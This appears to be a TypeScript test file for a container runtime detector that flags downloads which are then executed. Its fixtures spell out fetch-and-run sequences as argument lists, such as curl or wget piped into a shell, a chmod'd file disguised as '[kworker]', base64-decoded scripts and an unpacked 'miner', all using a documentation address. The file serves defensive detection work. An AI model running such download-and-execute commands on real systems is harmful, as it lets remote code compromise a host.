import { beforeEach, describe, expect, it } from 'vitest';
import { EXEC_FLAG } from '../../bpf/events.ts';
import type { Surroundings } from '../../runtime/detectors/download.ts';
import { DownloadExecuteDetector } from '../../runtime/detectors/download-execute.ts';
import type { Process } from '../../runtime/processes.ts';
import { sampleContainer, sampleProcess } from './sample-process.ts';

const URL = 'http://192.0.2.1/x.sh';
const SECOND = 1e9;

let detector: DownloadExecuteDetector;
let shell: Process;
beforeEach(() => {
  detector = new DownloadExecuteDetector();
  shell = sampleProcess(['sh', '-c', '...'], { parent: sampleProcess(['nginx']) });
});

const run = (argv: string[], at = 0, exe?: string, parent = shell) =>
  detector.executed(sampleProcess(argv, { parent, ...(exe ? { exe } : {}) }), at * SECOND, at * 1000);

/** As if every process had these descriptors. */
const around = (links: Record<number, string>): Surroundings => ({
  descriptor: (_, number) => links[number],
  absolute: (_, path) => path,
});

describe('DownloadExecuteDetector', () => {
  it.each([
    ['curl', ['curl', '-fsSL', URL]],
    ['wget to standard output', ['wget', '-qO-', URL]],
    ['wget, written apart', ['wget', '-q', '-O', '-', URL]],
  ])('sees a download piped into a shell: %s', (_, download) => {
    expect(run(download)).toBeUndefined();
    expect(run(['sh'], 0.01)).toMatchObject({
      findings: [{ rule: 'remote-script' }],
      evidence: { download: URL },
    });
  });

  it('sees it when the shell started first, as either side of a pipe may', () => {
    expect(run(['bash', '-s'])).toBeUndefined();
    expect(run(['curl', URL], 0.01)?.process.image.argv).toEqual(['bash', '-s']);
  });

  it.each([
    ['curl -o', ['curl', '-o', '/tmp/k', URL]],
    ['curl -so', ['curl', '-so', '/tmp/k', URL]],
    ['curl --output=', ['curl', '--output=/tmp/k', URL]],
    ['curl -OJL', ['curl', '-sOJL', 'http://192.0.2.1/k']],
    ['curl -O', ['curl', '-O', 'http://192.0.2.1/k?token=secret']],
    ['wget', ['wget', 'http://192.0.2.1/a/k']],
    ['wget -O', ['wget', '-O', '/tmp/k', URL]],
    ['busybox wget', ['busybox', 'wget', '-O', '/tmp/k', URL]],
  ])('sees a downloaded file that is run, by itself or by an interpreter: %s', (_, download) => {
    expect(run(download)).toBeUndefined();
    expect(run(['chmod', '+x', '/tmp/k'], 1)).toBeUndefined();
    expect(run(['[kworker]'], 2, '/tmp/k')?.findings).toMatchObject([{ rule: 'remote-script' }]);
    expect(run(['sh', '/tmp/k'], 2)?.findings).toMatchObject([{ rule: 'remote-script' }]);
  });

  it('sees it when a script of the same tree did the download', () => {
    const script = sampleProcess(['sh', 'get.sh'], { parent: shell });
    expect(run(['curl', '-o', 'k', URL], 0, undefined, script)).toBeUndefined();
    expect(run(['k'], 1, '/tmp/k')).toBeDefined();
  });

  it('says nothing when too much time passed, or another tree runs something of that name', () => {
    run(['curl', '-o', '/tmp/k', URL]);
    expect(run(['k'], 599, '/tmp/k')).toBeDefined();
    expect(run(['k'], 601, '/tmp/k')).toBeUndefined();
    run(['curl', URL], 700);
    expect(run(['sh'], 711)).toBeUndefined();
    expect(run(['k'], 1, '/opt/k', sampleProcess(['sh']))).toBeUndefined();
  });

  it('follows a file that is moved, and a redirection', () => {
    run(['curl', '-o', '/tmp/part', URL]);
    run(['mv', '-f', '/tmp/part', '/tmp/k'], 1);
    expect(run(['k'], 2, '/tmp/k')).toBeDefined();
    detector = new DownloadExecuteDetector(around({ 1: '/tmp/k2' }));
    run(['curl', URL]);
    expect(run(['k2'], 1, '/tmp/k2')).toBeDefined();
  });

  it('knows what a shell reads: a pipe, a whole script as text, and not a terminal', () => {
    for (const argv of [
      ['bash', '/dev/fd/63'],
      ['sh', '-s', '--', 'a'],
      ['sh', '-c', '#!/bin/sh\nexit'],
      ['sh', '-'],
    ]) {
      run(['curl', URL]);
      expect(run(argv, 0.1), argv.join(' ')).toBeDefined();
    }
    detector = new DownloadExecuteDetector(around({ 0: '/dev/pts/0', 1: '/dev/pts/0' }));
    run(['curl', URL]);
    expect(run(['bash'], 0.1)).toBeUndefined();
  });

  it('takes an interpreter that connects for a download, and says nothing about what it runs of the image', () => {
    const python = sampleProcess(['python3', 'get.py'], { parent: shell });
    detector.connected(python, 0, '192.0.2.1', 80);
    expect(run(['sh'], 1)?.evidence).toEqual({ download: 'tcp://192.0.2.1:80' });
    expect(detector.connected(python, 2 * SECOND, '192.0.2.1', 80)?.process.image.argv).toEqual(['sh']);
    expect(run(['ls'], 1, undefined, python)).toBeUndefined();
    expect(run(['sh', '-c', '#!/bin/sh\nls'], 1, undefined, python)).toBeUndefined();
    const added = sampleProcess(['k'], { parent: python, flags: EXEC_FLAG.upperLayer });
    expect(detector.executed(added, SECOND, 1000)).toBeDefined();
    expect(detector.executed(added, 13 * SECOND, 13_000)).toBeUndefined();
  });

  it('sees a file at the same path that another tree of the container runs', () => {
    run(['curl', '-o', '/tmp/k', URL]);
    expect(run(['sh', '/tmp/k'], 1, undefined, sampleProcess(['bash']))).toBeDefined();
    const other = sampleContainer('/kubepods/pody/def');
    const elsewhere = sampleProcess(['bash'], { container: other });
    const stranger = sampleProcess(['sh', '/tmp/k'], { parent: elsewhere, container: other });
    expect(detector.executed(stranger, SECOND, 1000)).toBeUndefined();
  });

  it.each([
    ['through a pipe', { 1: 'pipe:[7]' }, ['base64', '-d', '/tmp/k'], ['sh']],
    ['through a filter', { 1: '/tmp/other' }, ['base64', '-d', '/tmp/k'], ['sh', '/tmp/other']],
    ['through dd', { 1: '/dev/null' }, ['dd', 'if=/tmp/k', 'of=/tmp/other'], ['sh', '/tmp/other']],
    ['through gzip', { 1: '/dev/null' }, ['gzip', '-d', '/tmp/k.gz'], ['sh', '/tmp/k']],
  ])('follows a file %s', (_, links, filter, argv) => {
    detector = new DownloadExecuteDetector(around(links));
    run(['curl', '-o', filter.at(-1)?.endsWith('.gz') ? '/tmp/k.gz' : '/tmp/k', URL]);
    run(filter, 1);
    expect(run(argv, 2)).toBeDefined();
  });

  it('takes any program that a shell starts for a downloader when its pipe is read by a shell, and its own only', () => {
    const links: Record<number, string> = { 0: 'pipe:[7]', 1: 'pipe:[7]' };
    detector = new DownloadExecuteDetector(around(links));
    const renamed = sampleProcess(['c'], { parent: shell });
    expect(detector.concerns(renamed)).toBe(true);
    expect(detector.concerns(sampleProcess(['c'], { parent: sampleProcess(['nginx']) }))).toBe(false);
    run(['sh']);
    expect(detector.connected(renamed, 0.1 * SECOND, '192.0.2.1', 80)?.process.image.argv).toEqual(['sh']);
    links[0] = 'pipe:[8]';
    expect(detector.connected(renamed, 2 * SECOND, '192.0.2.1', 80)).toBeUndefined();
  });

  it('sees a new program of the container after an unpacked download, and no older one', () => {
    run(['curl', '-o', '/tmp/k.tar', URL]);
    run(['tar', 'xf', '/tmp/k.tar'], 1);
    const unpacked = (changed: number) => {
      const process = sampleProcess(['miner'], { parent: shell, exe: '/tmp/inner' });
      return detector.executed({ ...process, image: { ...process.image, changed } }, 2 * SECOND, 2000);
    };
    expect(unpacked(1000)).toBeDefined();
    expect(unpacked(-3_600_000)).toBeUndefined();
  });

  it.each([
    ['python3', 'pipe:[7]', true],
    ['perl', 'pipe:[7]', true],
    ['node', '/dev/pts/0', false],
  ])('sees what %s reads from %s without arguments', (program, input, isSeen) => {
    detector = new DownloadExecuteDetector(around({ 0: input, 1: 'pipe:[7]' }));
    run(['curl', URL]);
    expect(run([program], 0.1) !== undefined).toBe(isSeen);
    run(['curl', URL], 100);
    expect(run([program, '-c', 'import sys'], 100.1)).toBeUndefined();
  });

  it('has the file of a script looked at behind a connection that nobody knows the result of, and not behind curl', () => {
    const script = (at: number) =>
      detector.possibleScript(
        sampleProcess(['sh', 'job'], { parent: shell }),
        100 * SECOND + at * SECOND,
        (100 + at) * 1000,
      );
    const connect = (argv: string[]) =>
      detector.connected(sampleProcess(argv, { parent: shell }), 100 * SECOND, '192.0.2.1', 80);
    connect(['curl', '-o', '/tmp/data', URL]);
    expect(script(1)).toBeUndefined();
    connect(['perl', 'get.pl']);
    expect(script(1)).toMatchObject({ path: 'job', since: 99_980 });
    expect(script(11)).toBeUndefined();
  });

  it('says nothing about a download beside other work', () => {
    run(['curl', '-o', '/tmp/data.json', URL]);
    expect(run(['jq', '.', '/tmp/data.json'], 1)).toBeUndefined();
    expect(run(['sh', '-c', 'true'], 1)).toBeUndefined();
    expect(run(['sh', '/usr/local/bin/report.sh'], 1)).toBeUndefined();
  });

  it('keeps passwords and query strings out of the report', () => {
    run(['curl', '-o', '/tmp/k', 'https://me:secret@192.0.2.1/k?sig=secret']);
    expect(JSON.stringify(run(['k'], 1, '/tmp/k'))).not.toMatch(/me:|sig=/);
  });
});
